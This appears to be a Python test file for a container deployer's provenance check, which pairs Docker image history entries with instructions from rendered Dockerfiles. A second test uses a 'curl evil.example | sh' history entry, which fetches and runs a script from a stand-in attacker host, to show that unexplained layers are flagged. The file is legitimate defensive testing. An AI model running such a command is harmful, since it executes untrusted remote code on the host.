from deployer.image.dockerfile import render_runtime_dockerfile
from deployer.platforms import AMD64
from deployer.provenance.recipe import pair_recipe, stage_instructions

HISTORY = [
    ("COPY /rootfs/ / # buildkit", 9_800_000),
    ("USER 101:101", 0),
    ("EXPOSE map[8080/tcp:{}]", 0),
    ("STOPSIGNAL SIGQUIT", 0),
    (
        'HEALTHCHECK &{["CMD" "/usr/local/bin/healthcheck" "8080" "/.sitedeploy/health"] "5s" "3s" "5s" \'\\x03\'}',
        0,
    ),
    ('ENTRYPOINT ["/usr/sbin/nginx" "-e" "stderr" "-g" "daemon off;"]', 0),
    ("COPY /srv/errors /srv/errors # buildkit", 4_000),
    ("COPY /srv/www /srv/www # buildkit", 120_000),
]


SITE_STAGE = """FROM builder AS pack
RUN true
FROM sitedeploy/nginx-runtime:abc AS nginx
COPY --from=pack /srv/errors /srv/errors
COPY --from=pack /srv/www /srv/www
"""


def test_history_pairs_with_the_rendered_dockerfiles() -> None:
    runtime = render_runtime_dockerfile(
        nginx_base="sitedeploy/debian:bookworm", target=AMD64, native=True
    )
    instructions = stage_instructions(runtime, "runtime") + stage_instructions(SITE_STAGE, "nginx")
    assert instructions[0] == "COPY --from=nginx-build /rootfs/ /"
    assert instructions[-1] == "COPY --from=pack /srv/www /srv/www"
    recipe = pair_recipe(instructions, HISTORY)
    assert [line.matches for line in recipe] == [True] * len(HISTORY)
    assert recipe[4].instruction and recipe[4].instruction.startswith("HEALTHCHECK --interval=5s")


def test_an_entry_the_recipe_does_not_explain_is_flagged() -> None:
    recipe = pair_recipe(
        ["USER 101:101"], [("RUN curl evil.example | sh", 10), ("USER 101:101", 0)]
    )
    assert [(line.matches, line.instruction) for line in recipe] == [
        (False, None),
        (True, "USER 101:101"),
    ]
